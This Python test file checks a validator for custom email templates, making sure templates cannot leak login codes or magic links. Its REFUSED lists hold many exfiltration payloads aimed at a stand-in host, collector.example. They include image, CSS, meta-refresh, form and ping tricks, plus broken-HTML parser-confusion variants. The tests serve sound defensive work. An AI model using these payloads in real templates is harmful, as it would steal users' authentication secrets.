"""Codes and links of mail stand in text or in the link's own address, and nowhere else."""

from __future__ import annotations

import re

import pytest
from mail_servers import LINK, configured, deliver, delivery, invite
from served import SERVICES
from sqlalchemy import text

from tenantry.api import methods, policy
from tenantry.call import Call
from tenantry.core import errors
from tenantry.core.caller import SYSTEM, Caller, Kind
from tenantry.db.sql.statements import Statement
from tenantry.events.email import custom_templates
from tenantry.events.email.use_cases import PLACEHOLDERS, USE_CASES, draft
from tenantry.transfer.deployment import status

ELSEWHERE = "https://collector.example/?c="
REFUSED = [
    # Addresses, and what a mail program loads or follows by itself.
    '<img src="https://collector.example/?c={{ otp }}">',
    "<img src='https://collector.example/?c={{ otp }}'>",
    "<img src=https://collector.example/{{ otp }}>",
    '<IMG SRC="https://collector.example/{{ otp }}">',
    '<img src="{{ link }}">',
    '<img srcset="https://collector.example/{{ otp }} 2x">',
    '<table background="https://collector.example/{{ otp }}"></table>',
    '<p style="background:url(https://collector.example/{{ otp }})">x</p>',
    "<style>p { background: url(https://collector.example/{{ otp }}) }</style>",
    '<meta http-equiv="refresh" content="0;url=https://collector.example/{{ otp }}">',
    '<link rel="prefetch" href="{{ link }}">',
    '<video poster="https://collector.example/{{ otp }}"></video>',
    '<form action="https://collector.example/{{ otp }}"></form>',
    '<form action="https://collector.example"><input value="{{ otp }}"></form>',
    '<form action="https://collector.example"><textarea name="c">{{ otp }}</textarea></form>',
    "<select><option>{{ otp }}</option></select>",
    '<a href="{{ link }}" ping="https://collector.example/{{ link }}">Open</a>',
    '<area href="{{ link }}">',
    # Links to somewhere else, or to more than the link.
    '<a href="https://collector.example/?u={{ link }}">Open</a>',
    '<a href="{{ link }}&more=1">Open</a>',
    '<a href=" {{ link }}">Open</a>',
    '<a href="{{ otp }}">Open</a>',
    "<a href={{ link }}>Open</a>",
    '<a href="https://app.example.com" href="{{ link }}">Open</a>',
    # Other attributes, comments, names.
    '<p title="{{ otp }}">x</p>',
    '<p data-code="{{ otp }}">x</p>',
    "<a data-x='a href=\"{{ link }}\" b'>Open</a>",
    '<a {{ otp }}="x">x</a>',
    "<{{ otp }}>",
    "<!-- {{ otp }} -->",
    "<!--[if mso]><v:rect href='{{ link }}'></v:rect><![endif]-->",
    "<title>{{ otp }}</title>",
    "<noscript>{{ otp }}</noscript>",
    # Broken HTML, which two programs read in two ways.
    '<img src="https://collector.example/?{{ otp }}',
    '<a href="https://collector.example/?c=>{{ otp }}</a>',
    '<!--><img src="https://collector.example/?c=-->{{ otp }}',
    '<!--[if mso]><img src="https://collector.example/?c=<![endif]-->{{ otp }}',
    '<![CDATA[<img src="]]>{{ otp }}',
    '<textarea><p title="</textarea><a href=\'https://collector.example/?c=">{{ otp }}</a>'
    '<p title="\'>">x</p></textarea>',
    '<svg><style><img src="</style>{{ otp }}"></svg>',
    '<xmp><p title="</xmp><img src=x>">{{ otp }}</xmp>',
    # Text of which a mail program makes an address.
    "<p>https://collector.example/?c={{ otp }}</p>",
    "<p>https&#58;//collector.example/?c={{ otp }}</p>",
    "<p>https://collector.example/?c=<b>{{ otp }}</b></p>",
    "<p>collector.example/{{ otp }}</p>",
    "<p>{{ otp }}.collector.example</p>",
    "<p>{{ otp }}@collector.example</p>",
    "<p>&lt;https://collector.example/?c= {{ otp }}&gt;</p>",
    '<div style="display:inline">https://collector.example/</div>'
    '<div style="display:inline">{{ otp }}</div>',
    "<p>{{ organization_name }}{{ otp }}</p>",
    "<p>{{ otp }}{{ link }}</p>",
    # Style that tells what a text or an address holds.
    '<style>a[href*="ab"] { background: url(https://collector.example/ab) }</style>'
    '<a href="{{ link }}">Open</a>',
    "<style>@font-face { src: url(https://collector.example/0) }</style>{{ otp }}",
    "<style>@import 'https://collector.example/x.css';</style>{{ otp }}",
    # Behind conditions.
    '{{ if otp }}<img src="https://collector.example/{{ otp }}">{{ end }}',
    '{{ if user_name }}{{ else }}<img src="https://collector.example/{{ otp }}">{{ end }}',
    '{{ if user_language == "de" }}<img src="https://collector.example/{{ otp }}">{{ end }}',
    '{{ if !user_name && user_language != "en" }}<p title="{{ otp }}"></p>{{ end }}',
]
REFUSED_TEXTS = [
    "https://collector.example/?c={{ otp }}",
    "collector.example/{{ otp }}",
    "{{ otp }}.collector.example",
    "{{ otp }}@collector.example",
    "mailto:x@collector.example?subject={{ otp }}",
    "<https://collector.example/?c= {{ otp }}>",
    "https://collector.example/?u={{ link }}",
    "{{ link }}/more",
    "{{ organization_name }}{{ otp }}",
]
TAKEN = [
    "<p>{{ otp }}</p>",
    "<p>Your code: <b>{{ otp }}</b>.</p>",
    "<p>({{ otp }})</p><p>G-{{ otp }}</p>",
    "<p>認証コードは{{ otp }}です。</p>",
    '<a href="{{ link }}">Open</a>',
    "<a class=b HREF='{{ link }}' target=_blank>{{ link }}</a>",
    "<p>Code for {{ user_email }} at https://acme.example: {{ otp }}</p>",
    '<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Acme</title>'
    "<style>@media (max-width: 480px) { .a > b { color: red } }</style></head><body>"
    '<!--[if mso]><table><tr><td><![endif]--><table width=100% cellpadding="0"><tr>'
    "<td>https://acme.example</td><td>{{ otp }}</td></tr></table>"
    "<!--[if mso]></td></tr></table><![endif]--><!--[if !mso]><!--><p>x</p><!--<![endif]-->"
    '<img src="{{ app_logo_url }}" alt="Acme"/><br/></body></html>',
]


def check(html: str = "<p>x</p>", plain: str = "x", subject: str = "Your code") -> None:
    custom_templates.check(
        "LOGIN", {"subject": subject, "html_content": html, "plain_content": plain}
    )


def refused(part: str, **contents: str) -> str:
    with pytest.raises(errors.InvalidArgument) as problem:
        check(**contents)
    (broken,) = problem.value.violations
    assert broken.field == f"template.{part}"
    return broken.description


@pytest.mark.parametrize("html", REFUSED)
def test_a_secret_that_html_could_send_elsewhere_is_refused(html):
    said = refused("html_content", html=html)
    # It quotes the template as the operator wrote it.
    assert not re.search("s[0-9a-f]{8}", said)


@pytest.mark.parametrize("plain", REFUSED_TEXTS)
def test_a_secret_that_a_text_could_make_an_address_of_is_refused(plain):
    refused("plain_content", plain=plain)


def test_a_subject_holds_no_link_and_a_code_by_itself():
    check(subject="{{ otp }} is your code")
    for subject in ("{{ link }}", "https://collector.example/{{ otp }}"):
        refused("subject", subject=subject)


@pytest.mark.parametrize("html", TAKEN)
def test_usual_mail_is_taken(html):
    check(html=html, plain="Your code: {{ otp }}.\n\n{{ link }}\n")


def test_html_without_a_secret_is_nobody_elses_business():
    check(html='<img src="https://www.example.com/{{ user_language }}.png"><svg></svg><p>a < b')


@pytest.mark.parametrize("case", USE_CASES.values(), ids=lambda case: case.name)
def test_our_own_words_may_be_kept_as_a_template(case):
    ours = draft(case)
    contents = {"subject": ours.subject, "html_content": ours.html, "plain_content": ours.text}
    custom_templates.check(case.name, contents)
    link = "https://app.example.com/link?a=1&b=2"
    given = {name: PLACEHOLDERS[name].sample for name in case.placeholders} | {"link": link}
    made = custom_templates.render(contents, given)
    if "link" in case.proofs:
        assert f'href="{link.replace("&", "&amp;")}"' in made.html
        assert link in made.text
    if "otp" in case.proofs:
        assert given["otp"] in made.text
        named = custom_templates.render(contents | {"subject": "{{ otp }} is it"}, given)
        assert named.subject == f"{given['otp']} is it"
        assert given["otp"] in made.html


def test_a_condition_learns_nothing_of_a_code():
    contents = {
        "subject": "x",
        "html_content": '{{ if otp == "123456" }}<img src="https://collector.example/1">{{ end }}x',
        "plain_content": "{{ otp }}",
    }
    made = custom_templates.render(contents, {"otp": "123456"})
    assert "collector" not in made.html
    assert "123456" in made.text


INSERT = Statement(
    text(
        "INSERT INTO email_templates (id, organization_id, use_case, enabled, subject,"
        " html_content, plain_content, create_time, update_time)"
        " VALUES ('eml_1', NULL, 'USER_INVITE', true, 'Join', :html, 'Join', 1, 1)"
    )
)


async def test_one_that_was_kept_before_gives_way_to_ours_and_is_reported(
    db, database_url, mail_server, tmp_path
):
    await db.fetch_all(INSERT, html=f'<img src="{ELSEWHERE}{{{{ link }}}}">')
    await invite(db)
    await deliver(delivery(smtp_url=mail_server.url), db)
    (message,) = mail_server.received
    assert message["Subject"] == "You are invited to join Acme Corp"
    for part in message.iter_parts():
        assert LINK in part.get_content()
        assert "collector" not in part.get_content()
    known = configured(data_dir=tmp_path, database_url=database_url)
    found = await status.look(db, known, "env_1")
    assert found.refused_templates == ("eml_1",)
    assert any("eml_1" in problem for problem in found.problems())
    # It is not enabled again, nor changed while the misplaced part remains.
    call = Call(SYSTEM, db, "req_test")
    with pytest.raises(errors.InvalidArgument):
        await custom_templates.enable(call, None, "eml_1")
    with pytest.raises(errors.InvalidArgument):
        await custom_templates.change(call, None, "eml_1", {"subject": "Come"})
    await custom_templates.change(call, None, "eml_1", {"html_content": "<p>{{ link }}</p>"})
    assert (await status.look(db, known, "env_1")).refused_templates == ()


class Anything:
    """It has a method of any name."""

    def __getattr__(self, name: str) -> object:
        return self


def test_of_operators_only_owners_write_and_enable_templates():
    served = [one for each in SERVICES for one in methods.of_service(each, Anything())]
    writing = [
        one
        for one in served
        if one.name in {"CreateEmailTemplate", "UpdateEmailTemplate", "EnableEmailTemplate"}
    ]
    assert len(writing) == 3
    for method in writing:
        policy.check(method, Caller(Kind.OPERATOR, "opr_1", owns=True))
        with pytest.raises(errors.PermissionDenied, match="only an owner"):
            policy.check(method, Caller(Kind.OPERATOR, "opr_1"))
